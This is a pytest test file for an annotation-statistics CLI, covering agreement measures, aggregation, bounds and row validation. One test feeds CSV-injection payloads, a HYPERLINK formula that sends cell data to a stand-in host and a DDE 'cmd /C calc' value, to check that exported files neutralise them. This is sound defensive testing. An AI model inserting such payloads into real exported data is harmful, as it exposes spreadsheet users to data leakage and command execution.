"""`audit-stats` offline commands run on real files (in-process via typer's runner, and one real subprocess)."""

from __future__ import annotations

import csv
import json
import subprocess
import sys
from pathlib import Path

import pytest
from typer.testing import CliRunner

from stats_cli.cli import app

runner = CliRunner()


def run_json(*args: str, code: int = 0) -> dict:
    """Run with --json; ``code`` 3 = the result was printed but input rows were skipped."""
    result = runner.invoke(app, [*args, "--json"])
    assert result.exit_code == code, result.output
    return json.loads(result.stdout)


def article_file(tmp_path: Path) -> Path:
    """The annotation article's 100 items as a long CSV, plus two bad rows."""
    lines = ["item,annotator,label"]
    pairs = [("toxic", "toxic")] * 1 + [("ok", "ok")] * 91 + [("toxic", "ok")] * 4 + [("ok", "toxic")] * 4
    for i, (a, b) in enumerate(pairs):
        lines += [f"{i},ann1,{a}", f"{i},ann2,{b}"]
    lines.insert(5, "broken,row")       # file line 6
    lines.insert(10, "7,,ok")           # file line 11
    path = tmp_path / "article.csv"
    path.write_text("\n".join(lines) + "\n")
    return path


def test_agreement_reproduces_article_example(tmp_path: Path) -> None:
    out = run_json("agreement", str(article_file(tmp_path)), "--positive", "toxic", code=3)
    assert out["n_items"] == 100 and out["n_annotators"] == 2 and out["n_ratings"] == 200
    assert round(out["cohen_kappa"], 2) == 0.16 and round(out["fleiss_kappa"], 2) == 0.16
    assert out["positive_agreement"] == pytest.approx(0.2) and out["pct_agreement"] == pytest.approx(0.92)
    assert out["n_skipped"] == 2 and [e["line"] for e in out["errors"]] == [6, 11]
    for key in ("krippendorff_alpha", "gwet_ac1", "negative_agreement"):
        assert isinstance(out[key], float)


def test_agreement_tables_and_stderr(tmp_path: Path) -> None:
    result = runner.invoke(app, ["agreement", str(article_file(tmp_path)), "--positive", "toxic"])
    assert result.exit_code == 3  # the two bad rows were skipped
    assert "fleiss_kappa" in result.stdout and "0.158" in result.stdout
    assert "line 6" in result.stderr and "2 bad row(s) skipped" in result.stderr


def test_agreement_single_category_is_undefined_not_nan(tmp_path: Path) -> None:
    path = tmp_path / "same.tsv"
    path.write_text("item\tannotator\tlabel\n1\ta\tok\n1\tb\tok\n2\ta\tok\n2\tb\tok\n")
    out = run_json("agreement", str(path))
    assert out["fleiss_kappa"] is None and "one category" in out["undefined"]["fleiss_kappa"]
    assert "NaN" not in json.dumps(out)


def test_agreement_wide_ordinal(tmp_path: Path) -> None:
    path = tmp_path / "wide.csv"
    path.write_text("item,r1,r2,r3\nu1,9,10,10\nu2,1,1,2\nu3,5,5,\n")
    out = run_json("agreement", str(path), "--wide", "--level", "ordinal")
    assert out["categories"] == ["1", "2", "5", "9", "10"]
    assert out["cohen_kappa"] is None and out["krippendorff_alpha"] > 0.5


def test_aggregate_strict_writes_out_file(tmp_path: Path) -> None:
    src = tmp_path / "crowd.jsonl"
    src.write_text("".join(json.dumps(r) + "\n" for r in [
        {"item": "a", "annotator": "w1", "label": 1}, {"item": "a", "annotator": "w2", "label": 1},
        {"item": "a", "annotator": "w3", "label": 0}, {"item": "b", "annotator": "w1", "label": 1},
        {"item": "b", "annotator": "w2", "label": 0},
    ]) + "nope\n")
    dest = tmp_path / "agg.csv"
    out = run_json("aggregate", str(src), "--method", "strict", "--negative", "0", "--out", str(dest), code=3)
    assert [i["label"] for i in out["items"]] == ["0", "0"] and out["errors"][0]["line"] == 6
    majority = run_json("aggregate", str(src), "--method", "majority", "--negative", "0", code=3)
    assert [(i["label"], i["tie"]) for i in majority["items"]] == [("1", False), ("0", True)]
    assert dest.read_text().splitlines()[1].startswith("a,0,0.333")


def test_bounds_and_expected() -> None:
    out = run_json("bounds", "--errors", "34", "--sample", "160", "--population", "836")
    assert round(out["fpc_low"] * 100, 1) == 15.8 and out["cp_low"] < out["fpc_low"] < out["rate"]
    assert out["cp_low"] < out["exact_low"] < out["rate"] < out["exact_high"] < out["cp_high"]  # N = 836 narrows it
    assert "fpc_low" not in run_json("bounds", "--errors", "3", "--sample", "10")
    exp = run_json("expected", "--pd", "0.6", "--positive-ratio", "0.1", "--n", "10", "--at-least", "5")
    assert round(exp["labeller"]["f1"], 2) == 0.23 and round(exp["random"]["f1"], 2) == 0.17
    assert round(exp["score_tail"]["p_random"], 2) == 0.62
    bad = runner.invoke(app, ["bounds", "--errors", "5", "--sample", "3"])
    assert bad.exit_code == 2 and "error" in bad.stderr


def test_stratify_from_annotations(tmp_path: Path) -> None:
    ann = tmp_path / "ann.csv"
    ann.write_text("item,annotator,label\n" + "".join(
        f"{i},{a},{lab}\n" for i, labs in enumerate(["111", "110", "000", "001", "100"]) for a, lab in zip("xyz", labs)))
    preds = tmp_path / "preds.csv"
    preds.write_text("item,prediction\n0,1\n1,0\n2,0\n3,1\n4,0\n9,1\n")
    out = run_json("stratify", str(preds), "--annotations", str(ann), "--pred-col", "prediction", code=3)
    strata = {s["p_d"]: s for s in out["strata"]}
    assert strata[1.0]["n"] == 2 and strata[0.67]["n"] == 3 and strata["all"]["n"] == 5
    assert strata[1.0]["accuracy"] == 1.0 and strata[0.67]["accuracy"] == pytest.approx(1 / 3)
    assert out["errors"] == [{"line": 7, "message": "item '9' has no annotations"}]


def test_stratify_expected_f1_over_the_declared_labels(tmp_path: Path) -> None:
    # a file holding two of the task's three labels: --labels declares the third (issue 31's 0.4921)
    rows = "".join(f"{i},{lab},{lab},0.7\n" for i, lab in enumerate("xxxyyyyyyy"))
    preds = tmp_path / "preds.csv"
    preds.write_text("item,truth,prediction,p_d\n" + rows)
    base = ("stratify", str(preds), "--truth-col", "truth", "--pd-col", "p_d")
    assert run_json(*base)["positive_label"] == "y"  # two labels in the file: a binary task
    declared = run_json(*base, "--labels", "x,y,z")
    assert declared["positive_label"] is None
    assert declared["strata"][0]["expected_f1"] == pytest.approx(0.4921, abs=5e-5)


def test_confidence_bins_and_rerank_on_scored_items(tmp_path: Path) -> None:
    rows = []
    for i in range(40):
        original = str(i % 2)
        prediction = str(1 - i % 2)
        conf = 0.5 + i / 80
        gold = prediction if i >= 16 else original
        rows.append({"id": str(i), "original": original, "prediction": prediction, "confidence": conf, "gold": gold,
                     "probs": {prediction: conf, original: 1 - conf}, "flagged": True, "members": []})
    rows.append({"id": "bad", "original": "0", "prediction": "1", "confidence": "n/a", "gold": "1"})
    path = tmp_path / "scored.jsonl"
    path.write_text("".join(json.dumps(r) + "\n" for r in rows))
    out = run_json("confidence-bins", str(path), "--bins", "4", "--resamples", "200", "--seed", "1", code=3)
    assert [b["n"] for b in out["bins"]] == [10, 10, 10, 10] and out["n_skipped"] == 1
    assert out["bins"][0]["llm"]["share"] == 0.0 and out["bins"][-1]["llm"]["share"] == 1.0
    assert out == run_json("confidence-bins", str(path), "--bins", "4", "--resamples", "200", "--seed", "1", code=3)
    for r in rows[:-1]:
        r["model"] = "ensemble"
    path.write_text("".join(json.dumps(r) + "\n" for r in rows))
    models = run_json("rerank", str(path), code=3)["models"]
    assert models[0]["model"] == "ensemble" and models[0]["accuracy_gold"] == pytest.approx(24 / 40)


def test_real_process_entry_point(tmp_path: Path) -> None:
    proc = subprocess.run(
        [sys.executable, "-m", "stats_cli.cli", "agreement", str(article_file(tmp_path)), "--json"],
        capture_output=True, text=True, timeout=120, cwd=Path(__file__).resolve().parents[3],
    )
    assert proc.returncode == 3, proc.stderr  # result printed, bad rows skipped
    assert json.loads(proc.stdout)["n_skipped"] == 2


def test_confidence_bins_reads_item_result_json(tmp_path: Path) -> None:
    from backend.scoring.results import ItemResult

    lines = []
    for i in range(6):
        item = ItemResult(id=str(i), original="0", prediction="1", confidence=0.6 + i / 20,
                          probs={"0": 0.4 - i / 20, "1": 0.6 + i / 20}, flagged=True, line=i + 1)
        lines.append(json.dumps({**item.to_json(), "gold": "1" if i % 2 else "0"}))
    path = tmp_path / "scored.jsonl"
    path.write_text("\n".join(lines) + "\n")
    out = run_json("confidence-bins", str(path), "--bins", "2", "--min-n", "3")
    assert [b["n"] for b in out["bins"]] == [3, 3] and out["n_skipped"] == 0
    assert out["bins"][0]["llm"]["share"] == pytest.approx(1 / 3)


def test_aggregate_out_neutralises_spreadsheet_formulas(tmp_path: Path) -> None:
    src = tmp_path / "crowd.jsonl"
    src.write_text("".join(json.dumps(r) + "\n" for r in [
        {"item": '=HYPERLINK("http://x.test/?"&A1,"open")', "annotator": "w1", "label": "@SUM(1+1)"},
        {"item": "+cmd|' /C calc'!A0", "annotator": "w1", "label": "-2+3"},
        {"item": "-x", "annotator": "w1", "label": "-1"},
        {"item": "plain", "annotator": "w1", "label": "=1+1"},
    ]))
    for suffix, delimiter in ((".csv", ","), (".tsv", "\t")):
        dest = tmp_path / f"agg{suffix}"
        run_json("aggregate", str(src), "--out", str(dest))
        with dest.open(newline="", encoding="utf-8") as handle:
            rows = {r["item"]: r for r in csv.DictReader(handle, delimiter=delimiter)}
        assert set(rows) == {"'=HYPERLINK(\"http://x.test/?\"&A1,\"open\")", "'+cmd|' /C calc'!A0", "'-x", "plain"}
        assert rows["plain"]["label"] == "'=1+1" and rows["'+cmd|' /C calc'!A0"]["label"] == "'-2+3"
        assert rows["'-x"]["label"] == "-1"  # a number stays a number
        assert rows["'=HYPERLINK(\"http://x.test/?\"&A1,\"open\")"]["label"] == "'@SUM(1+1)"


def run_status(*args: str) -> tuple[int, dict]:
    result = runner.invoke(app, [*args, "--json"])
    return result.exit_code, json.loads(result.stdout)


def test_an_invalid_utf8_byte_is_one_bad_row_with_its_line(tmp_path: Path) -> None:
    path = tmp_path / "ratings.csv"
    path.write_bytes(b"item,annotator,label\n1,a,0\n1,b,0\n2,a,\xff\n2,b,1\n3,a,1\n3,b,1\n")
    code, out = run_status("agreement", str(path))
    assert [e["line"] for e in out["errors"]] == [4] and "UTF-8" in out["errors"][0]["message"]
    assert out["n_ratings"] == 5 and code == 3  # the rest was read; rows were dropped, so not 0


def test_a_field_over_the_csv_limit_does_not_end_the_file(tmp_path: Path) -> None:
    path = tmp_path / "ratings.csv"
    rows = ["item,annotator,label", "1,a,0", "1,b,0", f"2,a,{'x' * 200_000}", "2,b,1", "3,a,1", "3,b,1"]
    path.write_text("\n".join(rows) + "\n")
    code, out = run_status("agreement", str(path))
    assert [e["line"] for e in out["errors"]] == [4]
    assert out["n_ratings"] == 5 and code == 3


def test_labels_that_are_not_labels_are_rejected_per_row(tmp_path: Path) -> None:
    path = tmp_path / "ratings.jsonl"
    good = [{"item": i, "annotator": a, "label": (i + j) % 2} for i in range(3) for j, a in enumerate("ab")]
    bad = ['{"item": 9, "annotator": "a", "label": "to\\u0000xic"}', '{"item": 9, "annotator": "b", "label": [1, 0]}',
           '{"item": 9, "annotator": "c", "label": {"v": 1}}', '{"item": 9, "annotator": "d", "label": Infinity}',
           '{"item": 9, "annotator": "e", "label": NaN}', '{"item": 9, "annotator": "f", "label": "-inf"}']
    path.write_text("".join(json.dumps(r) + "\n" for r in good) + "\n".join(bad) + "\n")
    code, out = run_status("agreement", str(path))
    assert [e["line"] for e in out["errors"]] == [7, 8, 9, 10, 11, 12], out["errors"]
    reasons = " | ".join(e["message"] for e in out["errors"])
    for word in ("NUL", "list", "object", "finite"):
        assert word in reasons
    assert out["categories"] == ["0", "1"] and out["n_ratings"] == 6 and code == 3


def test_a_clean_file_exits_0(tmp_path: Path) -> None:
    path = tmp_path / "ratings.csv"
    path.write_text("item,annotator,label\n1,a,0\n1,b,0\n2,a,1\n2,b,1\n")
    assert run_status("agreement", str(path))[0] == 0


def test_skipped_row_messages_print_data_as_text(tmp_path: Path) -> None:
    path = tmp_path / "ratings.csv"
    path.write_text("item,annotator,label\n[/],a,0\n[/],a,1\n[bold]x,b,1\n[bold]x,a,0\n")
    result = runner.invoke(app, ["agreement", str(path)])
    assert result.exit_code == 3, result.output
    assert "duplicate rating of item '[/]'" in result.stderr
